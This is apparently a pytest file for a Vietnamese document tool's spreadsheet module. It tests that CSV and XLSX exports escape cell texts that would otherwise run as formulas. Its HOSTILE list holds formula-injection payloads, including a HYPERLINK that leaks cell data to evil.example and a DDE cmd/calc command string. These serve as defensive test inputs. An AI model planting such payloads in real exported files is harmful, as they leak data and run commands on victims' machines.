"""Spreadsheet and CSV writing: texts that read as formulas stay texts."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from dondoc.core.spreadsheet import (
    append_row,
    csv_bytes,
    is_formula_like,
    new_workbook,
    safe_cell,
    workbook_bytes,
    xlsx_cell,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_starting_with_a_formula_trigger_gets_an_apostrophe_in_csv(text):
    assert safe_cell(text) == "'" + text
    assert not is_formula_like(safe_cell(text))


@pytest.mark.parametrize(
    "value", ["Đã ban hành", "", "a=b", 42, -5, 1.5, dt.date(2025, 4, 10), None]
)
def test_ordinary_values_and_numbers_pass_unchanged(value):
    assert safe_cell(value) == value


def test_csv_bytes_neutralises_every_field_and_keeps_the_bom():
    data = csv_bytes([["Nội dung", "Kết quả"], *[[t, t] for t in HOSTILE]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Nội dung", "Kết quả"]
    for (first, second), text in zip(rows[1:], HOSTILE, strict=True):
        assert first == second == "'" + text


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_keeps_the_text_exactly_but_as_a_quoted_string_cell(write_only):
    book = new_workbook(write_only=write_only)
    sheet = book.create_sheet("Dữ liệu")
    for text in HOSTILE:
        append_row(sheet, [text, 7, dt.date(2025, 4, 10)])
    loaded = load_workbook(io.BytesIO(workbook_bytes(book)))["Dữ liệu"]
    for row, text in zip(loaded.iter_rows(), HOSTILE, strict=True):
        assert row[0].data_type == "s"
        assert row[0].value == text
        assert row[0].quotePrefix
        assert row[1].value == 7


def test_an_in_memory_workbook_turns_a_formula_set_directly_into_text():
    book = new_workbook()
    book.active["A1"] = "=1+1"
    loaded = load_workbook(io.BytesIO(workbook_bytes(book))).active
    assert loaded["A1"].data_type == "s"
    assert loaded["A1"].value == "=1+1"


def test_control_characters_pasted_from_a_word_processor_do_not_break_the_file():
    book = new_workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append([xlsx_cell(sheet, "Đã\x0b trình\x00 dự thảo")])
    loaded = load_workbook(io.BytesIO(workbook_bytes(book)))["x"]
    assert loaded["A1"].value == "Đã trình dự thảo"
